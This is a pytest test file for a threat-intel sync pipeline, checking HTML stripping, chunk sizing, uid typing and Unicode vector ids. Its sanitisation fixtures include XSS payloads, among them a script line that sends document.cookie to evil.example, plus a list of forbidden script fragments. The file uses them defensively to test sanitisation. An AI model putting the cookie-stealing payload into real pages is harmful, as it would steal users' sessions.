"""Hostile and malformed input on its way to the vector index: markup, size, types, emptiness, Unicode."""

import datetime as dt
import json
import random
import time

import pytest

from sync.embedding import get_embedder
from sync.ids import MAX_ID_LENGTH, is_shortened, parse_vector_id, vector_id
from sync.policy import METADATA_BUDGET_BYTES, METADATA_LIMIT_BYTES, build_document, html_to_text
from sync.stores.base import Entity

NOW = dt.datetime(2025, 6, 1, 8, 30, tzinfo=dt.UTC)
MEGABYTE = 1_000_000


@pytest.fixture(scope="session")
def embedder():
    """The process's embedder with its weights loaded (get_embedder() keeps it for the session)."""
    loaded = get_embedder()
    loaded.encode(["warm-up"])
    return loaded


def entity(node_label, uid, **properties):
    return Entity(node_label, uid, 1, NOW, {"uid": uid, **properties})


def everything(document):
    """Every string the vector index would receive for the document, in one searchable text."""
    return json.dumps([document.text, [[c.text, c.metadata] for c in document.chunks]], ensure_ascii=False)


def assert_valid_id(vid, label, uid, chunk):
    assert vid.isascii() and vid.isprintable() and len(vid) <= MAX_ID_LENGTH
    assert parse_vector_id(vid) == (label, uid, chunk)


# --- markup ----------------------------------------------------------------------------------
HOSTILE_DESCRIPTION = (
    '<div class="intro"><p>APT29 uses <b>spear-phishing</b> &amp; <i>OAuth abuse</i>.</p>'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src=x onerror="alert(1)"><style>p { color: red }</style>'
    "<!-- analyst comment: do not publish -->"
    "<p>Observed since 2008 &lt;script&gt;alert(2)&lt;/script&gt; in the wild.</p>"
    "<ul><li>Targets: ministries</li><li>Tools: WellMess</li></ul>"
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(3)</script>"
    '<a href="javascript:alert(4)">report</a> &#60;script&#62;alert(5)&#60;/script&#62; trailing <script'
)
FORBIDDEN = ["<script", "</script", "alert(", "onerror", "document.cookie", "javascript:", "<style",
             "color: red", "analyst comment", "<div", "<p>", "<b>", "evil.example"]


def test_it_strips_markup_and_scripts_but_keeps_the_prose():
    document = build_document(entity("ThreatActor", "apt29", name="<b>APT29</b> <script>x()</script>",
                                     aliases=["Cozy <i>Bear</i>", "<script>alert(6)</script>"],
                                     description=HOSTILE_DESCRIPTION))
    sent = everything(document)
    for fragment in FORBIDDEN:
        assert fragment.lower() not in sent.lower(), fragment
    assert document.text.startswith("Name: APT29\nAliases: Cozy Bear\nDescription: APT29 uses spear-phishing & OAuth abuse.")
    for prose in ["Observed since 2008", "in the wild.", "Targets: ministries", "Tools: WellMess", "report"]:
        assert prose in document.text
    metadata = document.chunks[0].metadata
    assert metadata["name"] == "APT29"
    assert metadata["aliases"] == ["Cozy Bear"]


@pytest.mark.parametrize("markup", [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<script/xss>alert(1)</script>", "<script/>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<template><script>alert(1)</script></template>",
    "abc <script", "abc <SCRIPT src=x", "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->", "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;\x00script&gt;alert(1)", "<\u200bscript>alert(1)",
])
def test_it_leaves_no_script_tag_in_any_encoding(markup):
    document = build_document(entity("Malware", "m", name="Payload", description=markup, aliases=[markup]))
    sent = everything(document).lower()
    assert "<script" not in sent and "</script" not in sent


def test_it_keeps_comparisons_and_ampersands_that_are_plain_text():
    assert html_to_text("versions < 2.4 & >= 2.0 are affected; AT&T reported it") == (
        "versions < 2.4 & >= 2.0 are affected; AT&T reported it")


@pytest.mark.parametrize("hostile", [
    "<a" * (MEGABYTE // 2), "<" * MEGABYTE, "<!--" * (MEGABYTE // 4), "</" * (MEGABYTE // 2),
    "<a x='" * (MEGABYTE // 6), "<![CDATA[" * (MEGABYTE // 9), "<b>x</b>" * (MEGABYTE // 8),
])
def test_it_cleans_a_megabyte_of_malformed_markup_in_linear_time(hostile):
    # The standard library parser alone is quadratic on most of these (hours for a megabyte).
    started = time.monotonic()
    text = html_to_text(hostile)
    assert time.monotonic() - started < 15
    assert "<a" not in text and "<!" not in text and "</" not in text


# --- size ------------------------------------------------------------------------------------
def megabyte_of_threat_intel():
    rng = random.Random(11)
    actors = ["APT29", "Lazarus Group", "Sandworm", "FIN7", "Scattered Spider", "Volt Typhoon"]
    verbs = ["exploited", "phished", "encrypted", "exfiltrated data from", "moved laterally through"]
    targets = ["VPN gateways", "hospital networks", "payment processors", "Exchange servers", "OT sites"]
    sentences = []
    size = 0
    while size < MEGABYTE:
        sentence = (f"In campaign {len(sentences)}, {rng.choice(actors)} {rng.choice(verbs)} "
                    f"{rng.choice(targets)} using CVE-{rng.randint(2015, 2025)}-{rng.randint(1000, 99999)}.")
        if rng.random() < 0.1:
            sentence += "\n\n"
        sentences.append(sentence)
        size += len(sentence) + 1
    return " ".join(sentences)[:MEGABYTE]


def test_it_chunks_a_megabyte_of_text_quickly_into_valid_small_chunks(embedder):
    body = megabyte_of_threat_intel()
    started = time.monotonic()
    document = build_document(entity("Report", "annual-threat-review", title="Annual review", body=body))
    elapsed = time.monotonic() - started
    assert elapsed < 15, f"took {elapsed:.1f}s"
    assert len(document.chunks) > 500
    tokenizer = embedder.tokenizer
    for n, chunk in enumerate(document.chunks):
        assert_valid_id(chunk.vector_id, "Report", "annual-threat-review", n)
        assert len(tokenizer.encode(chunk.text, add_special_tokens=False).ids) <= embedder.chunk_tokens
        assert chunk.text in document.text
        size = len(json.dumps(chunk.metadata, ensure_ascii=True, separators=(",", ":")))
        assert size <= METADATA_BUDGET_BYTES < METADATA_LIMIT_BYTES
        assert len(chunk.metadata["text"]) <= 1000
    assert document.chunks[-1].text.endswith(document.text[-40:])


def test_it_makes_chunks_the_model_reads_whole(embedder):
    document = build_document(entity("Report", "r", title="T", body=megabyte_of_threat_intel()[:8_000]))
    model = embedder.model
    for chunk in document.chunks:
        # The model's own tokenizer, special tokens included: nothing would be cut off.
        assert len(model.tokenizer(chunk.text, truncation=False)["input_ids"]) <= model.max_seq_length
    vectors = embedder.encode([chunk.text for chunk in document.chunks])
    assert vectors.shape == (len(document.chunks), 384)


# --- types -----------------------------------------------------------------------------------
@pytest.mark.parametrize("uid", [42, None, 3.5, b"apt29", ("apt", 29)])
def test_it_refuses_a_non_string_uid_where_it_enters(uid):
    with pytest.raises(ValueError, match=r"uid must be a str, got \w+"):
        build_document(entity("ThreatActor", uid, name="APT29"))
    with pytest.raises(ValueError, match=r"uid must be a str, got \w+"):
        vector_id("ThreatActor", uid)


# --- emptiness -------------------------------------------------------------------------------
@pytest.mark.parametrize("description", ["", "   \n\t ", "<p> </p>", "<script>alert(1)</script>", "\x00\x07"])
def test_it_gives_an_entity_with_no_text_a_document_without_vectors(description):
    document = build_document(entity("Malware", "empty-one", description=description, mitre_id="S0001"))
    assert document.text == ""
    assert document.chunks == ()
    assert not document.has_vectors


def test_it_splits_an_empty_text_into_nothing(embedder):
    assert embedder.split("") == []


# --- Unicode ---------------------------------------------------------------------------------
@pytest.mark.parametrize("uid", [
    "апт-28", "Песчаный червь", "黑客组织", "ラザルス", "🐻‍❄️", "🔥🐉#1", "Ωmega:100%", "café\u0301",
    "مجموعة", "a/b?c=d&e", " leading and trailing ",
])
def test_it_gives_unicode_uids_ascii_ids_that_round_trip(uid):
    document = build_document(entity("ThreatActor", uid, name="Some actor", description="Espionage group."))
    (chunk,) = document.chunks
    assert_valid_id(chunk.vector_id, "ThreatActor", uid, None)
    assert chunk.metadata["uid"] == uid


def test_it_keeps_unicode_ids_valid_across_chunks_and_when_shortened():
    long_uid = "Группа-" * 100  # ~1,300 characters once percent-encoded: shortened
    body = " ".join(f"Предложение {n} о кампании." for n in range(600))
    for uid, shortened in (("黑客组织", False), (long_uid, True)):
        document = build_document(entity("Artifact", uid, title="Отчёт", body=body))
        assert len(document.chunks) > 1
        for n, chunk in enumerate(document.chunks):
            assert is_shortened(chunk.vector_id) == shortened
            assert_valid_id(chunk.vector_id, "Artifact", None if shortened else uid, n)
            assert chunk.metadata["uid"] == uid  # where a shortened id's uid is read back from
